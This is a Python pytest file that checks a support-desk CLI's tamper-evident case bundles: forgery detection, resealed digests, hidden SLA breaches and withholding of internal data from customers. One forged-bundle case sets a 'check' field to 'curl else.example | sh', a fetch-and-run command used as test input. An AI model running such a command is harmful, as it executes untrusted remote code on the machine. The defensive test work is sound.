"""`care bundle`: a case as a file that anybody checks without the desk, and that tells nobody too much (IMP-2)."""

import copy
import json
import os
import re
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any, Final

import pytest
from cli.acceptance import ADA, DANA, LENA, MIA, NOW, Who, care, shell
from cli.test_schema import faults

from carecli.desk.bundles import checking, differences, writing
from carecli.errors import CareError
from carecli.store.codec import event_digest

Bundle = dict[str, Any]
Path_ = tuple[str | int, ...]
SECRET: Final = "The customer pays late."


@pytest.fixture
def ada(trial: str) -> Who:
    return Who(trial, ADA, NOW)


def bundled(who: Who, number: str | int) -> Bundle:
    """A case's bundle as it stands in its file."""
    document: Bundle = who.json("bundle", str(number))
    return document


def verdict(folder: Path, document: Any, status: int | None = None) -> dict[str, Any]:
    """What `care bundle verify` says of it, where there is neither a desk nor a configuration."""
    file = folder / "case.json"
    file.write_text(json.dumps(document), "utf-8")
    ran = care("--json", "--db", str(folder / "none.db"), "bundle", "verify", str(file))
    told: dict[str, Any] = json.loads(ran.out)
    assert faults("bundle verify", told) == []
    assert ran.status == (0 if told["verified"] else 1)
    assert status in {None, ran.status}
    assert not (folder / "none.db").exists()
    return told


def resealed(document: Bundle) -> Bundle:
    """A bundle as a forger leaves it: its own SHA-256 is right again."""
    return writing.sealed(document)


def rechained(document: Bundle) -> Bundle:
    """A bundle whose forger has made all its digests anew, as if its events were alone in the log."""
    before = document["events"][0]["previous"]
    (history, _) = checking._history(document)
    for told, (entry, _) in zip(document["events"], history, strict=True):
        told["previous"], number = before, int(document["number"])
        told["digest"] = before = event_digest(before, number, told["seq"], entry.event)
        told["position"] = document["events"][0]["position"] + told["seq"] - 1
    return resealed(document)


def test_every_case_of_the_demo_proves_itself(trial: str, tmp_path: Path) -> None:
    """IMP-2: what staff and customers write of any case is whole in itself."""
    for email, whole in ((ADA, True), (MIA, True), (DANA, False)):
        who = Who(trial, email, NOW)
        cases = who.json("list", "--all", "--limit", "99", *(("--group",) if email == DANA else ()))["cases"]
        assert len(cases) > 5
        for number in (case["number"] for case in cases):
            document = bundled(who, number)
            assert faults("bundle write", document) == []
            told = verdict(tmp_path, document, 0)
            assert (told["differences"], told["whole"], told["number"]) == ([], whole, number)
            assert told["events"] == len(document["events"])
            assert bool(told["digests"]) == whole


def test_what_is_in_it(ada: Who) -> None:
    """IMP-2: events chained as the desk's log has them, the rules by their hashes, clocks, proofs and mail."""
    document = bundled(ada, 2)
    log = ada.json("log", "--all")["events"]
    digests = ["", *(line["digest"] for line in log)]
    for event in document["events"]:
        place = event["position"]
        assert (event["digest"], event["previous"]) == (digests[place], digests[place - 1])
        assert {**event, "number": "0000000002"}.items() >= log[place - 1].items()
    shown = ada.json("show", "2")
    assert document["case"] == {key: value for key, value in shown.items() if key != "updates"}
    assert document["proof"] == ada.json("explain", "2")
    assert set(document["documents"]) == {document["proof"]["policy"], document["proof"]["calendar"]}
    assert [mail["kind"] for mail in document["mail"]] == [
        mail["kind"] for mail in reversed(ada.json("mail", "outbox", "2")["mail"])
    ]
    # Whoever has the file must not be able to reply into the case.
    assert "reference" not in json.dumps([mail["says"] for mail in document["mail"]])


def leaves(node: Any, path: Path_ = ()) -> Iterator[Path_]:
    """Every place of a document that holds a bare value."""
    if isinstance(node, dict | list) and node:
        for key, value in node.items() if isinstance(node, dict) else enumerate(node):
            yield from leaves(value, (*path, key))
    else:
        yield path


def shape(path: Path_) -> str:
    """A place without the ordinals and hashes in it."""
    return ".".join("*" if isinstance(key, int) or re.fullmatch(r"[0-9a-f]{64}", key) else key for key in path)


def put(document: Bundle, path: Path_, value: Any) -> Bundle:
    """The document with another value there."""
    changed = copy.deepcopy(document)
    node: Any = changed
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return changed


def found(document: Bundle, path: Path_) -> Any:
    """The value there."""
    node: Any = document
    for key in path:
        node = node[key]
    return node


def other(value: Any) -> Any:
    """Another value that could stand there as well."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str) and re.fullmatch(r"\d{4}-\d\d-\d\dT.*Z", value):
        return value.replace("2026-", "2027-")
    return "x" if not isinstance(value, str) else f"{value}x"


def test_no_value_of_events_rules_and_clocks_can_be_changed(ada: Who) -> None:
    """IMP-2: whichever value of an event, a rule or a clock a forger changes, sealing it again, it shows."""
    document, tried = bundled(ada, 3), dict[str, bool]()
    for path in leaves({name: document[name] for name in ("number", "made_at", "events", "clocks", "documents")}):
        # The policy is long, and one hash covers all of it.
        name = "documents" if path[0] == "documents" else shape(path)
        if name not in tried:
            changed = resealed(put(document, path, other(found(document, path))))
            tried[name] = bool(checking._verdict(changed).faults)
    assert len(tried) > 50
    assert [name for name, seen in tried.items() if not seen] == []


def test_no_value_of_case_and_proof_can_be_changed(ada: Who, monkeypatch: pytest.MonkeyPatch) -> None:
    """IMP-2: each value of the case and of the proof is made anew, and one that differs is named by its place."""
    monkeypatch.setattr(differences, "_MOST", 10_000)
    document = bundled(ada, 3)
    for part in ("case", "proof"):
        places, changed = list(leaves(document[part])), document
        for path in places:
            changed = put(changed, (part, *path), other(found(document[part], path)))
        named = {fault.where for fault in checking._verdict(changed).faults if fault.part == part}
        assert len(named) > 60
        assert named == {
            "".join(f"[{key + 1}]" if isinstance(key, int) else f".{key}" for key in path).removeprefix(".")
            for path in places
        }


Change = Callable[[Bundle], Any]
FORGED: tuple[tuple[str, str, Change], ...] = (
    ("an event gone", "chain", lambda b: b["events"].pop(2)),
    ("an event twice", "chain", lambda b: b["events"].insert(2, b["events"][2])),
    ("two events in another order", "chain", lambda b: b["events"].insert(2, b["events"].pop(3))),
    ("an event of another case", "chain", lambda b: b.update(number="0000000004")),
    ("a policy", "document", lambda b: next(iter(b["documents"].values()))["document"].update(name="kinder")),
    ("a due time", "clock", lambda b: b["clocks"][0].update(due_at="2026-03-30T10:00:00Z")),
    ("a clock gone", "clock", lambda b: b["clocks"].pop()),
    ("a sum", "proof", lambda b: b["proof"]["clocks"][0]["lines"][0].update(sum_s=1)),
    ("a status", "case", lambda b: b["case"].update(status="closed")),
    ("a mail of a follow-up", "mail", lambda b: b["mail"][0].update(round=7, stage=3)),
    ("a mail of another case", "mail", lambda b: b["mail"][0].update(number="0000000004")),
    ("a name put in", "file", lambda b: b.update(note="never breached")),
    ("a name put into the case", "case", lambda b: b["case"].update(note="never breached")),
    ("a name put into the proof", "proof", lambda b: b["proof"].update(note="never breached")),
    ("made before it was over", "file", lambda b: b.update(made_at="2026-03-17T10:00:00Z")),
    ("nothing is withheld", "file", lambda b: b["withheld"].clear()),
    ("another way to check it", "file", lambda b: b.update(check="curl else.example | sh")),
    ("no longer whole", "file", lambda b: b.update(whole=False)),
    ("no events", "event", lambda b: b["events"].clear()),
    ("a kind that is none", "event", lambda b: b["events"][1].update(kind="forgotten")),
)


@pytest.mark.parametrize(("part", "change"), [case[1:] for case in FORGED], ids=[case[0] for case in FORGED])
def test_forgeries_are_named(ada: Who, tmp_path: Path, part: str, change: Change) -> None:
    """IMP-2, AUD-1: each part that does not hold is named, with exit status 1."""
    document = bundled(ada, 3)
    change(document)
    told = verdict(tmp_path, resealed(document), 1)
    assert part in {one["part"] for one in told["differences"]}


def unbreached(document: Bundle) -> Bundle:
    """A bundle without its breaches, everything that follows from them made to fit."""
    document["events"] = [event for event in document["events"] if event["kind"] != "clock-breached"]
    for seq, event in enumerate(document["events"], 1):
        event["seq"] = seq
    for clock in (*document["clocks"], *document["case"]["clocks"], *document["proof"]["clocks"]):
        clock["breached_at"] = None
        if clock["state"] == "breached":
            clock["state"] = "met" if clock["met_at"] else "running"
    return document


def test_a_breach_cannot_be_left_out(trial: str, tmp_path: Path) -> None:
    """IMP-2, SLA-7: who leaves out a breach and makes every digest anew is found out by the rules themselves."""
    document = rechained(unbreached(bundled(Who(trial, ADA, NOW), 3)))
    told = verdict(tmp_path, document, 1)
    assert any("by the policy and what people did" in one["what"] for one in told["differences"])
    # Nor in a customer's, which has no digests at all.
    document = resealed(unbreached(bundled(Who(trial, DANA, NOW), 3)))
    told = verdict(tmp_path, document, 1)
    assert any("by the policy and what people did" in one["what"] for one in told["differences"])


def test_a_rebasing_hides_no_breach(trial: str, tmp_path: Path) -> None:
    """IMP-2, SLA-8: before and after a rebasing each clock is held against the rules in force then."""
    mia, span = Who(trial, ADA, NOW), ("--from", "2026-03-01", "--account", "Northwind", "--yes")
    mia.json("policy", "rebase", "guide", *span)
    honest = bundled(mia, 3)
    assert "rebased" in {event["kind"] for event in honest["events"]}
    assert verdict(tmp_path, honest, 0)["differences"] == []
    told = verdict(tmp_path, rechained(unbreached(honest)), 1)
    assert any("by the policy and what people did" in one["what"] for one in told["differences"])


def test_a_breach_cut_off_the_end_is_pointed_at(trial: str, tmp_path: Path) -> None:
    """IMP-2, SLA-7: what was due before the bundle was made is told, though no tick had put it on record."""
    late = Who(trial, ADA, "2026-03-23T15:00:00Z")
    told = verdict(tmp_path, bundled(late, 9), 0)
    assert told["overdue"] == [{"metric": "response", "cycle": 1, "due_at": "2026-03-23T13:20:00Z"}]
    page = care("bundle", "verify", str(tmp_path / "case.json")).out
    assert "response 1, due 2026-03-23T13:20:00Z" in page
    assert verdict(tmp_path, bundled(Who(trial, ADA, NOW), 9), 0)["overdue"] == []


def test_it_says_what_it_cannot_prove(trial: str, tmp_path: Path) -> None:
    """IMP-2: what stands by its writer's word alone is named: mails, and what only digests would show."""
    whole = verdict(tmp_path, bundled(Who(trial, ADA, NOW), 3))["unproved"]
    assert len(whole) == 1
    assert "mails" in whole[0]
    told = verdict(tmp_path, bundled(Who(trial, DANA, NOW), 3))["unproved"]
    assert len(told) == 3
    assert "no digests" in told[0]
    assert "owner" in told[1]


def test_nobody_replies_into_the_case_by_it(trial: str) -> None:
    """MAIL-1, IMP-2: no reference and no Message-ID goes with a bundle, as either lets one reply into the case."""
    for email in (ADA, DANA):
        document = bundled(Who(trial, email, NOW), 3)
        text = json.dumps(document["mail"])
        assert "ref:" not in text
        assert "@desk.example>" not in text
        assert document["mail"][0]["subject"].endswith("Report totals differ by one hour")
        assert any("Message-ID" in line for line in document["withheld"])


def test_a_customer_gets_what_he_may_see(trial: str, tmp_path: Path) -> None:
    """DC-3: no internal event, no place or digest that would count them, nobody else's mail, and it says so."""
    mia, dana = Who(trial, MIA, NOW), Who(trial, DANA, NOW)
    before = bundled(dana, 4)
    mia.json("update", "4", "--internal", "-m", SECRET)
    mia.json("assign", "4", MIA, "--product-group", "Voice")
    dana.json("escalate", "4", "-m", "Nobody calls.")
    mia.json("link", "4", "7")
    document = bundled(dana, 4)
    text = json.dumps(document)
    for secret in (SECRET, "0000000007", "position", "previous", '"digest"', "assigned", LENA):
        assert secret not in text, secret
    assert {event["visibility"] for event in document["events"] if event["seq"]} == {"public"}
    marks = [event for event in document["events"] if event["seq"] is None]
    assert {event["kind"] for event in marks} <= {"clock-warned", "clock-breached", "clock-met"}
    seqs = [event["seq"] for event in document["events"] if event["seq"]]
    assert seqs == list(range(1, len(seqs) + 1))
    assert {mail["to"].partition("@")[2] for mail in document["mail"]} == {"northwind.example"}
    assert len(document["mail"]) < len(mia.json("mail", "outbox", "4")["mail"])
    assert all("id" not in mail for mail in document["mail"])
    assert any("internal" in told for told in document["withheld"])
    # What is withheld reads the same whether there is anything or not.
    assert before["withheld"] == document["withheld"]
    assert verdict(tmp_path, document, 0)["whole"] is False
    whole = bundled(mia, 4)
    assert SECRET in json.dumps(whole)
    assert verdict(tmp_path, whole, 0)["whole"] is True


def test_ties_to_other_cases_are_counted_as_told(trial: str, tmp_path: Path) -> None:
    """IMP-2, DC-3: a customer's bundle holds though it names another case and an event after that is a cause."""
    ada, dana = Who(trial, ADA, NOW), Who(trial, DANA, NOW)
    ada.json("link", "3", "9")
    ada.json("split", "3", "4", "-s", "Another matter")
    ada.json("update", "3", "--internal", "-m", SECRET)
    ada.json("policy", "rebase", "guide", "--from", "2026-03-01", "--account", "Northwind", "--yes")
    document = bundled(dana, 3)
    assert {"linked", "split", "rebased"} <= {event["kind"] for event in document["events"]}
    assert verdict(tmp_path, document, 0)["differences"] == []


def test_of_other_accounts_there_is_nothing(trial: str) -> None:
    """DC-3: another account's case answers exactly as one that does not exist."""
    dana = Who(trial, DANA, NOW)
    theirs, none = dana("bundle", "7").refused(3), dana("bundle", "99").refused(3)
    assert theirs.replace("0000000007", "0000000099") == none


def test_a_file_and_the_screen(ada: Who, tmp_path: Path) -> None:
    """IMP-2: --output writes the file whole or not at all, `-` is a stream, a person reads a page."""
    file = tmp_path / "case-2.json"
    kept = ada.json("bundle", "2", "--output", str(file))
    assert faults("bundle write", kept) == []
    document = json.loads(file.read_text("utf-8"))
    assert kept["sha256"] == document["sha256"] == resealed(document)["sha256"]
    assert document == bundled(ada, 2) == json.loads(ada("bundle", "2", "-o", "-").out)
    line = ada("bundle", "write", "2", "-o", str(file))
    assert (line.status, line.out.splitlines()) == (
        0,
        [f"0000000002 written to {file}; `care bundle verify {file}` checks it"],
    )
    page = shell("bundle", "verify", "-", stdin=file.read_bytes(), cwd=tmp_path)
    assert page.status == 0
    assert "all is as the events and rules say" in page.out
    assert document["events"][0]["digest"] in page.out
    assert care("--quiet", "bundle", "verify", str(file)) == (0, "", "")
    assert ada("bundle", "2", "-o", str(tmp_path / "no" / "such" / "place.json")).refused(1)
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".care")] == []


def test_after_a_rebasing_and_an_exemption(trial: str, tmp_path: Path) -> None:
    """IMP-2, SLA-9: an exemption is in the proof, and the bundle holds."""
    mia = Who(trial, MIA, NOW)
    span = ("--from", "2026-03-18T10:00:00Z", "--to", "2026-03-18T12:00:00Z")
    mia.json("exempt", "5", *span, "--reason", "Their own network was down.")
    for who in (mia, Who(trial, DANA, NOW)):
        document = bundled(who, 5)
        assert document["case"]["exemptions"]
        assert verdict(tmp_path, document, 0)["differences"] == []


NONE: tuple[tuple[str, bytes], ...] = (
    ("nothing", b""),
    ("no JSON", b"nonsense"),
    ("a list", b"[]"),
    ("another form", b'{"form": "other"}'),
    ("a later version", b'{"form": "care-bundle", "version": 2}'),
    ("too deep", b"[" * 100_000),
    ("no UTF-8", b'{"form": "\xff"}'),
    ("a name twice", b'{"form": "care-bundle", "version": 1, "clocks": [{"due_at": 1, "due_at": 2}]}'),
)


@pytest.mark.parametrize("raw", [case[1] for case in NONE], ids=[case[0] for case in NONE])
def test_what_is_no_bundle_is_said_to_be_none(tmp_path: Path, raw: bytes) -> None:
    """IMP-2: anything else than a bundle is one short message, exit status 2."""
    (tmp_path / "x.json").write_bytes(raw)
    assert "no bundle" in care("bundle", "verify", str(tmp_path / "x.json")).refused(2)
    assert care("bundle", "verify", str(tmp_path / "none.json")).refused(1)


ANYTHING: Final[tuple[Any, ...]] = (None, [], {}, "\x1b[31mx", -1, 1.5, [[]])
EVERY: Final = 1 if os.environ.get("CARE_EVERY") == "1" else 2
"""Each value is put into every second place, and each place takes every second; CARE_EVERY=1: all into all."""


@pytest.mark.parametrize(("turn", "value"), [*enumerate(ANYTHING)], ids=map(repr, ANYTHING))
def test_any_value_in_any_place_is_looked_at(ada: Who, turn: int, value: Any) -> None:
    """IMP-2: a bundle may hold anything anywhere: it is verified or not, never a traceback."""
    document = bundled(ada, 9)
    places = [*((key,) for key in document), *(("events", 0, key) for key in document["events"][0])]
    places += [("events", 0, "data", key) for key in document["events"][0]["data"]]
    places += [(part, 0) for part in ("events", "clocks", "mail")]
    places += [("mail", 0, "stage"), ("documents", next(iter(document["documents"]))), ("proof", "clocks")]
    for place in places[turn % EVERY :: EVERY]:
        try:
            told = checking._verdict(put(document, place, copy.deepcopy(value)))
        except CareError:
            continue
        assert told.faults or found(document, place) == value, place


def test_it_needs_no_database(ada: Who, tmp_path: Path) -> None:
    """IMP-2: a bundle is checked where there is no desk, and where the desk's file is damaged."""
    file = tmp_path / "case.json"
    ada.json("bundle", "5", "-o", str(file))
    with closing(sqlite3.connect(tmp_path / "strange.db")) as db:
        db.execute("CREATE TABLE theirs (x)")
    assert care("--db", str(tmp_path / "strange.db"), "bundle", "verify", str(file)).status == 0
